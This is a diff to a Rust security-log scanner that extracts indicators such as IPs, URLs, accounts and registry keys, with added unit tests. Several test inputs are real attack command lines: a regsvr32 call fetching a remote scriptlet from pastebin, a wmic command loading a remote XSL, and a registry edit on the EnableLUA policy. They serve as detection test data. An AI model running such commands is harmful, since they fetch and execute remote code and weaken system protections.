@@ -89,11 +89,31 @@ const NAME_KEYS: &[(&[u8], ObservableKind)] = &[
     (b"workstation", ObservableKind::Hostname),
 ];
 
-/// Values that say there is no value.
-const NULL_VALUES: &[&str] = &["null", "none", "nil", "unknown", "undefined"];
+/// Values that say there is no value, or answer a yes-or-no question
+/// (`Virtual Account: No` in a Windows logon message is no account).
+const NULL_VALUES: &[&str] = &["null", "none", "nil", "unknown", "undefined", "no", "yes", "true", "false"];
 
 /// Registry hives, which look like NetBIOS domains in `HKLM\Software`.
 const HIVES: &[&str] = &["HKLM", "HKCU", "HKCR", "HKU", "HKCC"];
+
+/// Hive names that start a registry key in free text (`hklm\software\…`,
+/// `HKEY_LOCAL_MACHINE\…`, `HKCU:\…`), matched without regard to case.
+const HIVE_WORDS: &[&str] = &[
+    "hklm",
+    "hkcu",
+    "hkcr",
+    "hku",
+    "hkcc",
+    "hkey_local_machine",
+    "hkey_current_user",
+    "hkey_classes_root",
+    "hkey_users",
+    "hkey_current_config",
+];
+
+/// Keys whose value is a version, not an address (`"version":"7.5.4.0"`);
+/// any key ending in `version` is one too.
+const VERSION_KEYS: &[&str] = &["ver", "build", "release"];
 
 /// The longest key in [`USER_KEYS`] and [`HOST_KEYS`].
 const MAX_KEY_LEN: usize = 15;
@@ -198,6 +218,12 @@ impl<'t> Scanner<'t> {
         let Ok(normalised) = normalise(kind, raw) else {
             return false;
         };
+        // A loopback, multicast or unspecified address names no host; it is
+        // read (so that nothing inside it is taken for something else) but
+        // not kept.
+        if normalised.ip_class.is_some_and(|c| !c.is_indicator()) {
+            return true;
+        }
         let value = normalised.value;
         match kind {
             ObservableKind::Url => {
@@ -301,6 +327,12 @@ impl<'t> Scanner<'t> {
         {
             return end;
         }
+        if matches!(next, b'\\' | b':')
+            && first.is_ascii_alphabetic()
+            && let Some(end) = self.registry_key(i, we)
+        {
+            return end;
+        }
         if matches!(next, b'\\' | b'-')
             && (first.is_ascii_uppercase() || first.is_ascii_digit())
             && let Some(end) = self.netbios(i)
@@ -317,6 +349,7 @@ impl<'t> Scanner<'t> {
         if matches!(next, b'.' | b'[' | b'(' | b'{' | b'@' | b'%' | b'+' | b'-') && !after_dot(b, i) {
             if first.is_ascii_digit()
                 && matches!(next, b'.' | b'[' | b'(' | b'{')
+                && !after_version_key(b, i)
                 && let Some(end) = self.ipv4(i)
             {
                 return end;
@@ -366,6 +399,39 @@ impl<'t> Scanner<'t> {
         let text = self.text;
         if let Some(raw) = text.get(i..end) {
             self.push(ObservableKind::Url, raw);
+        }
+        Some(end)
+    }
+
+    /// `HKLM\Software\…`, `hkcu:\…`, `HKEY_LOCAL_MACHINE\…` and their
+    /// JSON-escaped forms, up to a blank or quote: a registry key.
+    fn registry_key(&mut self, i: usize, we: usize) -> Option<usize> {
+        let b = self.b;
+        let word = &b[i..we];
+        if !HIVE_WORDS.iter().any(|h| word.eq_ignore_ascii_case(h.as_bytes())) {
+            return None;
+        }
+        if prev(b, i).is_some_and(|p| is_word(p) || matches!(p, b'\\' | b'/' | b'.' | b'-')) {
+            return None;
+        }
+        let mut p = we;
+        if b.get(p) == Some(&b':') {
+            p += 1;
+        }
+        if b.get(p) != Some(&b'\\') {
+            return None;
+        }
+        let end = strip_trailing(b, i, body_end(self.text, b, p));
+        if !b[p..end].iter().any(|&c| c != b'\\') {
+            return None;
+        }
+        let text = self.text;
+        let raw = text.get(i..end)?;
+        let raw = raw.trim_end_matches('\\');
+        if raw.contains("\\\\") {
+            self.push_value(ObservableKind::RegistryKey, &raw.replace("\\\\", "\\"));
+        } else {
+            self.push(ObservableKind::RegistryKey, raw);
         }
         Some(end)
     }
@@ -439,6 +505,12 @@ impl<'t> Scanner<'t> {
             return None;
         }
         let end = strip_trailing(b, i, body_end(self.text, b, i + 1));
+        // A Windows switch with a value (`/i:http://…`, `/format:x`) is not
+        // a path: the URL or name after it is read on its own.
+        let first_name = b[i + 1..end].split(|&c| c == b'/').next().unwrap_or_default();
+        if first_name.contains(&b':') {
+            return None;
+        }
         // At least two names.
         b[i..end].split(|&c| c == b'/').filter(|name| !name.is_empty()).nth(1)?;
         let text = self.text;
@@ -789,6 +861,32 @@ fn at_len(b: &[u8], i: usize) -> usize {
     }
 }
 
+/// Whether the word at `i` is the value of a version key (`version=7.5.4.0`,
+/// `"FileVersion": "7.0.1.1"`, `ver: 1.0.0.0`): a dotted quad there is a
+/// version.
+fn after_version_key(b: &[u8], i: usize) -> bool {
+    let mut p = i;
+    // Back over the quote, separator and blanks between key and value.
+    let mut separated = false;
+    while p > 0 && matches!(b[p - 1], b'"' | b'\'' | b' ' | b'\t' | b'=' | b':') {
+        separated |= matches!(b[p - 1], b'=' | b':');
+        p -= 1;
+    }
+    if !separated {
+        return false;
+    }
+    let end = p;
+    while p > 0 && (b[p - 1].is_ascii_alphanumeric() || b[p - 1] == b'_') && end - p < 24 {
+        p -= 1;
+    }
+    let key = &b[p..end];
+    if key.is_empty() {
+        return false;
+    }
+    let lower: Vec<u8> = key.iter().map(u8::to_ascii_lowercase).collect();
+    VERSION_KEYS.iter().any(|k| lower == k.as_bytes()) || lower.ends_with(b"version") || lower.ends_with(b"_ver")
+}
+
 /// Whether the word at `i` comes right after a dot, plain or defanged.
 fn after_dot(b: &[u8], i: usize) -> bool {
     let before = &b[..i];
@@ -951,9 +1049,11 @@ mod tests {
     #[test]
     fn ipv6_addresses() {
         assert_eq!(found("from 2001:db8::42 and"), one(Ip, "2001:db8::42"));
-        assert_eq!(found("loopback ::1."), one(Ip, "::1"));
+        // Read, but not kept: a loopback or link-local address names no host.
+        assert_eq!(found("loopback ::1."), []);
+        assert_eq!(found("fe80::1%eth0"), []);
+        assert_eq!(found("db ::ffff:10.0.0.1."), one(Ip, "::ffff:10.0.0.1"));
         assert_eq!(found("[2001:DB8:0:0:0:0:0:1]:443"), one(Ip, "2001:db8::1"));
-        assert_eq!(found("fe80::1%eth0"), one(Ip, "fe80::1"));
         assert_eq!(found("mapped ::ffff:192.0.2.1"), one(Ip, "::ffff:192.0.2.1"));
         assert_eq!(found("ip:2001:db8::5"), one(Ip, "2001:db8::5"));
     }
@@ -1089,9 +1189,64 @@ mod tests {
         );
         assert_eq!(found("as NT AUTHORITY\\SYSTEM"), one(UserAccount, "NT AUTHORITY\\SYSTEM"));
         assert_eq!(found(r#""CORP\\bob""#), one(UserAccount, "CORP\\bob"));
-        for text in ["HKLM\\Software\\Run", "HKCU\\Run", "corp\\alice", "CORP\\a\\b", "X\\y"] {
+        for text in ["corp\\alice", "CORP\\a\\b", "X\\y"] {
             none(text);
         }
+    }
+
+    #[test]
+    fn registry_keys() {
+        assert_eq!(found("HKLM\\Software\\Run"), one(RegistryKey, "HKEY_LOCAL_MACHINE\\Software\\Run"));
+        assert_eq!(found("HKCU\\Run"), one(RegistryKey, "HKEY_CURRENT_USER\\Run"));
+        assert_eq!(
+            found("reg  add hklm\\software\\microsoft\\windows\\currentversion\\policies\\system /v EnableLUA /f"),
+            one(RegistryKey, "HKEY_LOCAL_MACHINE\\software\\microsoft\\windows\\currentversion\\policies\\system")
+        );
+        assert_eq!(
+            found("Set-ItemProperty HKCU:\\Environment -Name x"),
+            one(RegistryKey, "HKEY_CURRENT_USER\\Environment")
+        );
+        assert_eq!(
+            found(r#"{"key":"HKEY_USERS\\S-1-5-18\\Software"}"#),
+            one(RegistryKey, "HKEY_USERS\\S-1-5-18\\Software")
+        );
+        for text in ["HKLM alone", "HKLM\\", "xhklm\\a", "a.HKLM\\b"] {
+            none(text);
+        }
+    }
+
+    #[test]
+    fn versions_are_not_addresses() {
+        for text in [
+            r#"{"version":"7.5.4.0"}"#,
+            "FileVersion: 7.0.1.1",
+            "version=1.0.0.0",
+            r#""ProductVersion": "10.0.19041.1""#,
+            "build: 1.3.233.3",
+        ] {
+            none(text);
+        }
+        // An address after another key is still one.
+        assert_eq!(found("src: 8.8.8.8"), one(Ip, "8.8.8.8"));
+    }
+
+    #[test]
+    fn switches_are_not_paths() {
+        assert_eq!(
+            found("regsvr32.exe /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll"),
+            one(Url, "http://pastebin.com/raw/H4A4iDTA")
+        );
+        assert_eq!(
+            found(r#"wmic process list /format:"https://a.uguu.se/x_test.xsl""#),
+            one(Url, "https://a.uguu.se/x_test.xsl")
+        );
+    }
+
+    #[test]
+    fn yes_and_no_are_not_accounts() {
+        none("Virtual Account:\t\tNo");
+        none("Elevated Token: Yes");
+        assert_eq!(found("Account Name:\t\tbob"), one(UserAccount, "bob"));
     }
 
     #[test]
